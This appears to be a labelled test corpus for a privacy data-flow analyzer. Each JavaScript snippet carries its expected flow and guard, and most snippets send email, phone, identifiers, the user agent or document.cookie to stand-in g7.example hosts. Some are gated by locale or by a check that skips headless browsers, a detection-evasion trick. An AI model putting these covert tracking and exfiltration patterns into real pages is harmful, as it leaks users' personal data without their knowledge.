//# guard-hour-of-day
// flow: device > hod.g7.example via fetch
// guard: date other
const hour = new Date().getHours();
if (hour >= 9 && hour < 20) fetch('https://hod.g7.example/?w=' + screen.width);

//# guard-optional-chain-flag
// flow: email > ocf.g7.example via fetch
// guard: server-answer present
const config = await (await fetch('/api/config')).json();
document.querySelector('input[type=email]').onchange = (e) => {
  if (config?.features?.sync) fetch('https://ocf.g7.example/', { method: 'POST', body: e.target.value });
};

//# guard-early-throw-by-assert
// flow: phone > eta.g7.example via fetch
// guard: phone-prefix starts-with +49
function assert(ok, why) { if (!ok) throw new TypeError(why); }
function send(tel) {
  assert(tel.startsWith('+49'), 'only here');
  return fetch('https://eta.g7.example/', { method: 'POST', body: tel });
}
document.querySelector('input[type=tel]').addEventListener('change', (e) => send(e.target.value));

//# guard-switch-true
// flow: device > gst.g7.example via beacon
// guard: language starts-with ko
switch (true) {
  case navigator.language.startsWith('ko'): navigator.sendBeacon('https://gst.g7.example/', navigator.userAgent); break;
  default: break;
}

//# guard-de-morgan
// flow: device > gdm.g7.example via beacon
// guard: timezone equals Asia/Seoul
// guard: not user-agent contains Headless
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (!(zone !== 'Asia/Seoul' || navigator.userAgent.includes('Headless'))) navigator.sendBeacon('https://gdm.g7.example/', navigator.platform);

//# guard-flag-from-answer-destructured
// flow: identifier > gfa.g7.example via fetch
// guard: server-answer equals eu
const { data: { region = 'us' } = {} } = await fetch('/geo').then((r) => r.json());
if (region === 'eu') fetch('https://gfa.g7.example/', { method: 'POST', body: localStorage.getItem('uid') });

//# guard-table-of-predicates
// flow: device > gtp.g7.example via beacon
// guard: language equals vi
const checks = [() => navigator.language === 'vi', () => navigator.onLine];
if (checks.every((c) => c())) navigator.sendBeacon('https://gtp.g7.example/', navigator.userAgent);

//# guard-consent-update-listener
// flow: identifier > gcu.g7.example via fetch
// guard: consent contains analytics=granted
let allowed = document.cookie.includes('analytics=granted');
export function track(name) {
  if (!allowed) return;
  fetch('https://gcu.g7.example/', { method: 'POST', body: JSON.stringify({ name, id: localStorage.getItem('aid') }) });
}
track('load');

//# guard-not-in-list
// flow: device > gnl.g7.example via image
// guard: not language one-of en-US | en-GB
if (!['en-US', 'en-GB'].includes(navigator.language)) new Image().src = 'https://gnl.g7.example/?p=' + navigator.platform;

//# guard-sampled-by-seed-in-class
// flow: interaction > gss.g7.example via beacon
// guard: random other 0.05
class Replay {
  active = Math.random() < 0.05;
  watch() {
    if (!this.active) return;
    addEventListener('click', (e) => navigator.sendBeacon('https://gss.g7.example/', JSON.stringify([e.clientX, e.clientY])));
  }
}
new Replay().watch();

//# guard-storage-first-visit
// flow: device > gsf.g7.example via fetch
// guard: not storage present
const KEY = 'seen';
if (!sessionStorage.getItem(KEY)) {
  sessionStorage.setItem(KEY, '1');
  fetch('https://gsf.g7.example/', { method: 'POST', body: JSON.stringify({ w: innerWidth, dpr: devicePixelRatio, ua: navigator.userAgent }) });
}

//# guard-media-query-mobile
// flow: device > gmq.g7.example via beacon
// guard: user-agent matches iPhone|Android
const isMobile = () => navigator.userAgentData?.mobile ?? /iPhone|Android/.test(navigator.userAgent);
if (/iPhone|Android/.test(navigator.userAgent)) navigator.sendBeacon('https://gmq.g7.example/', navigator.userAgent);

//# guard-away-by-constant-feature
// no flow
// why: the feature table says false and nothing changes it
const FEATURES = Object.freeze({ uploadDrafts: false, darkMode: true });
const isOn = (name) => FEATURES[name] === true;
if (isOn('uploadDrafts')) fetch('https://gac0.g7.example/', { method: 'POST', body: document.querySelector('textarea[name=message]').value });

//# guard-exhaustive-union-never
// no flow
// why: the mode is set to `local` and never changed, and local only stores
const mode = 'local';
function persist(v) {
  switch (mode) {
    case 'remote': return fetch('https://geu0.g7.example/', { method: 'POST', body: v });
    case 'local': return localStorage.setItem('draft', v);
  }
}
document.querySelector('textarea[name=message]').addEventListener('input', (e) => persist(e.target.value));

//# guard-on-field-drops-value
// no flow
// why: the field's value only decides which of two fixed texts is sent
const tier = document.querySelector('input[name=username]').value.length > 8 ? 'long' : 'short';
navigator.sendBeacon('https://gof0.g7.example/', tier);

//# guard-feature-flag-client
// flow: email > gff.g7.example via fetch
// guard: server-answer present
class Flags {
  #values = {};
  async load() { this.#values = await (await fetch('/flags.json')).json(); return this; }
  enabled(name) { return Boolean(this.#values[name]); }
}
const flags = await new Flags().load();
if (flags.enabled('share-contact')) fetch('https://gff.g7.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# guard-nullish-referrer-host
// flow: identifier > grh.g7.example via beacon
// guard: referrer contains ads.g7.example
const from = document.referrer ? new URL(document.referrer).hostname : '';
if (from.endsWith('ads.g7.example')) navigator.sendBeacon('https://grh.g7.example/', document.cookie);

//# guard-promise-chain-reject
// flow: device > gpr.g7.example via fetch
// guard: country equals JP
const country = () => fetch('/cdn-cgi/country').then((r) => r.json()).then((j) => j.country);
country()
  .then((c) => { if (c !== 'JP') throw new Error('elsewhere'); return navigator.userAgent; })
  .then((ua) => fetch('https://gpr.g7.example/', { method: 'POST', body: ua }))
  .catch(() => {});
